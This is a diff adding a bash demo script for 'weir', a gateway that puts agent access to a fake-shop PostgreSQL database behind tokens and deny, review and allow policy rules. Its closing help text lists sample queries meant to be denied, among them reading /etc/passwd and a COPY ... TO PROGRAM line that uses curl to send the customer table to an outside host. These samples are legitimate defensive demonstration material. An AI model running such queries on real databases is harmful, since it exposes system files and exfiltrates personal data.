@@ -1,0 +1,383 @@
+#!/usr/bin/env bash
+# THE demo: weir in front of a private PostgreSQL holding a fake shop.
+#
+#   scripts/demo.sh          # (re)start everything, print how to connect
+#   scripts/demo.sh stop     # stop weir and the demo PostgreSQL
+#   scripts/demo.sh reset    # stop, then delete .demo/ (data, keys, tokens)
+#   scripts/demo.sh status
+#
+# What it sets up (all under ./.demo, ignored by git):
+#   .demo/pg/            a private PostgreSQL cluster on 127.0.0.1:55432 (run as
+#                        the "postgres" OS user when this script runs as root);
+#                        database "shop" with fake customers/orders/payments
+#                        (scripts/shop.sql); every statement that reaches it is
+#                        logged to .demo/pg/postgresql.log
+#   .demo/pg_password    the password of the login role weir_agent (mode 600):
+#                        the upstream credential that only weir holds
+#   .demo/weir.yaml      weir's config; weir listens on 127.0.0.1:6432
+#   .demo/weir.log, .demo/weir.pid, .demo/weir-data/, .demo/agent_token
+#
+# Idempotent: re-running keeps the database and password, rebuilds bin/weir and
+# restarts weir.
+set -euo pipefail
+
+ROOT=$(cd "$(dirname "$0")/.." && pwd)
+cd "$ROOT"
+
+DEMO=$ROOT/.demo
+PGDIR=$DEMO/pg
+PGDATA=$PGDIR/data
+PGLOG=$PGDIR/postgresql.log
+PGPORT=55432
+WEIR_HOST=127.0.0.1
+WEIR_PORT=6432
+CONFIG=$DEMO/weir.yaml
+WEIR=$ROOT/bin/weir
+PIDFILE=$DEMO/weir.pid
+
+if ! command -v go >/dev/null && [[ -x /usr/local/go/bin/go ]]; then
+	export PATH=$PATH:/usr/local/go/bin
+fi
+
+say() { echo "demo: $*"; }
+die() {
+	echo "demo: ERROR: $*" >&2
+	exit 1
+}
+
+is_root() { [[ $(id -u) -eq 0 ]]; }
+
+# Runs a command as the user that owns the cluster.
+as_pg() {
+	if is_root; then
+		(cd / && runuser -u postgres -- "$@")
+	else
+		"$@"
+	fi
+}
+
+pg_bindir() {
+	local d
+	d=$(ls -d /usr/lib/postgresql/*/bin 2>/dev/null | sort -V | tail -n 1)
+	if [[ -n $d && -x $d/initdb ]]; then
+		echo "$d"
+	elif command -v initdb >/dev/null; then
+		dirname "$(readlink -f "$(command -v initdb)")"
+	else
+		die "PostgreSQL server binaries not found (scripts/deps.sh should have installed them)"
+	fi
+}
+
+port_in_use() { (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null; }
+
+socket_dir() {
+	# unix socket paths are limited to ~107 bytes
+	if ((${#PGDIR} <= 80)); then
+		echo "$PGDIR"
+	else
+		echo "/tmp/weir-demo-$(echo "$ROOT" | md5sum | cut -c1-8)"
+	fi
+}
+
+pg_running() { [[ -f $PGDATA/PG_VERSION ]] && as_pg "$BIN/pg_ctl" -D "$PGDATA" status >/dev/null 2>&1; }
+
+psql_admin() {
+	# superuser over the unix socket (trust); the superuser cannot log in over TCP
+	psql -X -q -v ON_ERROR_STOP=1 -h "$SOCK" -p "$PGPORT" -U postgres "$@"
+}
+
+weir_running() {
+	[[ -f $PIDFILE ]] || return 1
+	local pid
+	pid=$(cat "$PIDFILE")
+	[[ -n $pid ]] && kill -0 "$pid" 2>/dev/null && tr '\0' ' ' <"/proc/$pid/cmdline" 2>/dev/null | grep -q 'weir serve'
+}
+
+stop_weir() {
+	if weir_running; then
+		local pid
+		pid=$(cat "$PIDFILE")
+		say "stopping weir (pid $pid)"
+		kill -TERM "$pid" 2>/dev/null || true
+		for _ in $(seq 1 100); do
+			kill -0 "$pid" 2>/dev/null || break
+			sleep 0.1
+		done
+		if kill -0 "$pid" 2>/dev/null; then
+			say "weir did not stop in 10s; killing it"
+			kill -KILL "$pid" 2>/dev/null || true
+		fi
+	fi
+	rm -f "$PIDFILE"
+}
+
+stop_pg() {
+	if pg_running; then
+		say "stopping the demo PostgreSQL"
+		as_pg "$BIN/pg_ctl" -D "$PGDATA" -m fast -w -t 60 stop >/dev/null
+	fi
+}
+
+# ---------------------------------------------------------------- commands
+
+cmd=${1:-up}
+case $cmd in
+up | start | "") ;;
+stop | down)
+	if [[ -d $DEMO ]]; then
+		BIN=$(pg_bindir)
+		SOCK=$(socket_dir)
+		stop_weir
+		stop_pg
+	fi
+	say "stopped"
+	exit 0
+	;;
+reset)
+	"$0" stop
+	target=$(readlink -f "$PGDIR" 2>/dev/null || true)
+	rm -rf "$DEMO"
+	[[ -n $target && $target != "$PGDIR" ]] && rm -rf "$target"
+	say "removed .demo/"
+	exit 0
+	;;
+status)
+	BIN=$(pg_bindir)
+	SOCK=$(socket_dir)
+	if pg_running; then say "PostgreSQL: running on 127.0.0.1:$PGPORT"; else say "PostgreSQL: stopped"; fi
+	if weir_running; then say "weir: running (pid $(cat "$PIDFILE")) on $WEIR_HOST:$WEIR_PORT"; else say "weir: stopped"; fi
+	exit 0
+	;;
+*)
+	echo "usage: scripts/demo.sh [up|stop|reset|status]" >&2
+	exit 2
+	;;
+esac
+
+t0=$SECONDS
+
+# 1. Dependencies.
+scripts/deps.sh
+BIN=$(pg_bindir)
+command -v psql >/dev/null || die "psql not found (scripts/deps.sh should have installed it)"
+
+# 2. The private PostgreSQL cluster.
+mkdir -p "$DEMO"
+chmod 755 "$DEMO" # the postgres OS user must traverse it; secrets inside are mode 600
+if [[ ! -f $PGDATA/PG_VERSION ]]; then
+	rm -rf "$PGDIR"
+	mkdir -p "$PGDIR"
+	if is_root; then
+		id postgres >/dev/null 2>&1 || die "running as root, but the OS user 'postgres' (PostgreSQL refuses root) does not exist"
+		chown postgres:postgres "$PGDIR"
+		chmod 700 "$PGDIR"
+		if ! as_pg test -w "$PGDIR"; then
+			# a parent of the repository is not traversable by postgres (e.g. under /root)
+			alt=/var/lib/postgresql/weir-demo-$(echo "$ROOT" | md5sum | cut -c1-8)
+			say "$PGDIR is not reachable by the postgres user; keeping the cluster in $alt (symlinked)"
+			rm -rf "$PGDIR" "$alt"
+			mkdir -p "$alt"
+			chown postgres:postgres "$alt"
+			chmod 700 "$alt"
+			ln -s "$alt" "$PGDIR"
+		fi
+	fi
+	SOCK=$(socket_dir)
+	if [[ $SOCK != "$PGDIR" ]]; then
+		mkdir -p "$SOCK"
+		is_root && chown postgres:postgres "$SOCK"
+	fi
+	say "creating the PostgreSQL cluster in .demo/pg ($("$BIN/postgres" --version))"
+	as_pg "$BIN/initdb" -D "$PGDATA" -U postgres --auth-local=trust --auth-host=scram-sha-256 \
+		--encoding=UTF8 --locale=C.UTF-8 >"$DEMO/initdb.log" 2>&1 ||
+		{
+			cat "$DEMO/initdb.log" >&2
+			die "initdb failed"
+		}
+	as_pg tee -a "$PGDATA/postgresql.conf" >/dev/null <<EOF
+
+# --- weir demo ---
+listen_addresses = '127.0.0.1'
+port = $PGPORT
+unix_socket_directories = '$SOCK'
+password_encryption = 'scram-sha-256'
+log_statement = 'all'          # every statement that reaches PostgreSQL is logged
+log_line_prefix = '%m [%p] %u@%d '
+log_timezone = 'UTC'
+timezone = 'UTC'
+EOF
+else
+	SOCK=$(socket_dir)
+fi
+
+if pg_running; then
+	say "PostgreSQL already running on 127.0.0.1:$PGPORT"
+else
+	if port_in_use "$PGPORT"; then
+		die "port $PGPORT is in use by another process; stop it (or run scripts/demo.sh stop) and retry"
+	fi
+	say "starting PostgreSQL on 127.0.0.1:$PGPORT (log: .demo/pg/postgresql.log)"
+	as_pg "$BIN/pg_ctl" -D "$PGDATA" -l "$PGLOG" -w -t 60 start >/dev/null ||
+		{
+			tail -n 20 "$PGLOG" >&2 || true
+			die "PostgreSQL did not start"
+		}
+fi
+
+# 3. The shop database and its data.
+if [[ $(psql_admin -d postgres -tAc "SELECT 1 FROM pg_database WHERE datname = 'shop'") != 1 ]]; then
+	say "creating database shop"
+	psql_admin -d postgres -c "CREATE DATABASE shop"
+fi
+if [[ $(psql_admin -d shop -tAc "SELECT to_regclass('public.payments') IS NOT NULL") != t ]]; then
+	say "loading fake data (scripts/shop.sql)"
+	psql_admin -d shop -f scripts/shop.sql
+fi
+
+# 4. The upstream login role; its password is known only to weir.
+if [[ ! -s $DEMO/pg_password ]]; then
+	(
+		umask 077
+		head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n' >"$DEMO/pg_password"
+	)
+	say "generated the weir_agent password (.demo/pg_password)"
+fi
+chmod 600 "$DEMO/pg_password"
+psql_admin -d shop <<EOF
+SET log_statement = 'none'; -- keep the password out of the server log
+\set pw \`cat '$DEMO/pg_password'\`
+DO \$\$ BEGIN
+	IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'weir_agent') THEN CREATE ROLE weir_agent; END IF;
+END \$\$;
+ALTER ROLE weir_agent LOGIN NOSUPERUSER NOCREATEDB NOCREATEROLE NOREPLICATION NOBYPASSRLS PASSWORD :'pw';
+\unset pw
+RESET log_statement;
+REVOKE ALL ON DATABASE shop FROM PUBLIC;
+GRANT CONNECT ON DATABASE shop TO weir_agent;
+GRANT USAGE ON SCHEMA public TO weir_agent;
+GRANT SELECT, INSERT, UPDATE, DELETE ON customers, orders, payments TO weir_agent;
+GRANT USAGE, SELECT ON ALL SEQUENCES IN SCHEMA public TO weir_agent;
+EOF
+# prove the credential works over TCP, as weir will use it
+PGPASSWORD=$(cat "$DEMO/pg_password") psql -X -q -h 127.0.0.1 -p "$PGPORT" -U weir_agent -d shop \
+	-tAc "SELECT 1" >/dev/null || die "weir_agent cannot log in to shop over TCP"
+counts=$(psql_admin -d shop -tAc "SELECT format('%s customers, %s orders, %s payments', (SELECT count(*) FROM customers), (SELECT count(*) FROM orders), (SELECT count(*) FROM payments))")
+say "database shop ready: $counts"
+
+# 5. weir itself.
+say "building bin/weir"
+if [[ ! -d cmd/weir ]]; then
+	die "cmd/weir does not exist yet, so bin/weir cannot be built. The demo PostgreSQL is running and ready; re-run scripts/demo.sh once cmd/weir builds."
+fi
+mkdir -p bin
+if ! go build -o "$WEIR" ./cmd/weir 2>"$DEMO/build.log"; then
+	cat "$DEMO/build.log" >&2
+	die "go build ./cmd/weir failed (above). The demo PostgreSQL is running and ready; re-run scripts/demo.sh once cmd/weir builds."
+fi
+
+cat >"$CONFIG" <<EOF
+# Written by scripts/demo.sh (overwritten on every run).
+data_dir: $DEMO/weir-data
+listen:
+  postgres: $WEIR_HOST:$WEIR_PORT
+tls:
+  cert_file: ""            # empty: generated into data_dir on first start
+  key_file: ""
+  allow_plaintext_loopback: false
+targets:
+  - name: shop
+    kind: postgres
+    address: 127.0.0.1:$PGPORT
+    database: shop
+    username: weir_agent
+    password_env: SHOP_PG_PASSWORD
+    sslmode: disable        # upstream TLS: disable | require | verify-full
+    labels: {env: demo}
+agents:
+  - name: demo-agent
+    targets: [shop]
+    max_ttl: 8h
+policy:
+  rules:
+    - name: no-ddl
+      when: 'command.kind == "ddl" || command.kind == "admin"'
+      action: deny
+      message: "Schema and admin changes are not allowed for agents; open a change request."
+    - name: no-risky
+      when: 'command.risks.exists(r, r in ["file_access","network_access","program_exec","dynamic_sql","role_change","search_path","read_only_escape","writable_cte","select_into","server_signal","unknown_function"])'
+      action: deny
+    - name: review-writes
+      when: 'command.writes'
+      action: review
+    - name: reads
+      when: 'command.kind in ["read", "transaction"] || (command.kind == "session" && !("setting_change" in command.risks))'
+      action: allow
+EOF
+
+stop_weir
+if port_in_use "$WEIR_PORT"; then
+	die "port $WEIR_PORT is in use by another process (a system pgbouncer? see: ss -ltnp 'sport = :$WEIR_PORT'); stop it and retry"
+fi
+say "starting weir on $WEIR_HOST:$WEIR_PORT (log: .demo/weir.log)"
+echo "---- $(date -u +%FT%TZ) scripts/demo.sh starts weir" >>"$DEMO/weir.log"
+SHOP_PG_PASSWORD=$(cat "$DEMO/pg_password") \
+	setsid "$WEIR" serve --config "$CONFIG" </dev/null >>"$DEMO/weir.log" 2>&1 &
+echo $! >"$PIDFILE"
+WEIR_PID=$!
+for i in $(seq 1 150); do
+	if ! kill -0 "$WEIR_PID" 2>/dev/null; then
+		tail -n 30 "$DEMO/weir.log" >&2
+		rm -f "$PIDFILE"
+		die "weir exited during startup (log above, full log in .demo/weir.log)"
+	fi
+	port_in_use "$WEIR_PORT" && break
+	if ((i == 150)); then
+		tail -n 30 "$DEMO/weir.log" >&2
+		die "weir did not listen on $WEIR_HOST:$WEIR_PORT within 30s"
+	fi
+	sleep 0.2
+done
+
+if ! TOKEN=$(SHOP_PG_PASSWORD=$(cat "$DEMO/pg_password") "$WEIR" token issue --config "$CONFIG" \
+	--agent demo-agent --ttl 1h --context ticket=DEMO-1 2>"$DEMO/token.err"); then
+	cat "$DEMO/token.err" >&2
+	die "weir token issue failed"
+fi
+TOKEN=$(echo "$TOKEN" | tr -d '[:space:]')
+[[ -n $TOKEN ]] || die "weir token issue printed no token"
+(
+	umask 077
+	echo "$TOKEN" >"$DEMO/agent_token"
+)
+
+# --- MCP / az -----------------------------------------------------------------
+# (coming later: `weir mcp` for a local agent, `weir env --agent demo-agent` for
+#  az/SDKs, Azurite behind the Blob front end. Add their setup and lines here.)
+# -------------------------------------------------------------------------------
+
+cat <<EOF
+
+weir is running in front of the demo PostgreSQL ($counts).
+The agent holds only a weir token (1h, context ticket=DEMO-1; also in .demo/agent_token);
+the database password stays with weir.
+
+Connect as the agent:
+
+  psql "host=$WEIR_HOST port=$WEIR_PORT dbname=shop user=demo-agent password=$TOKEN sslmode=require"
+
+Try:
+  allowed:   SELECT id, full_name, email, iban FROM customers ORDER BY id LIMIT 5;
+             SELECT status, count(*), sum(total_cents) / 100 AS total FROM orders GROUP BY status;
+  review:    UPDATE orders SET status = 'refunded' WHERE id = 42;      -- held for a human's approval
+  denied:    DROP TABLE payments;                                        -- rule no-ddl
+             SELECT pg_read_file('/etc/passwd');                         -- rule no-risky (file_access)
+             COPY customers TO PROGRAM 'curl -d @- https://example.com'; -- rule no-risky (program_exec)
+
+Every statement that actually reached PostgreSQL is in .demo/pg/postgresql.log
+(tail -f it: denied statements never appear). weir's own log: .demo/weir.log
+
+# MCP / az: (coming later)
+
+Stop everything:  scripts/demo.sh stop      (scripts/demo.sh reset also deletes .demo/)
+EOF
+say "ready in $((SECONDS - t0))s"
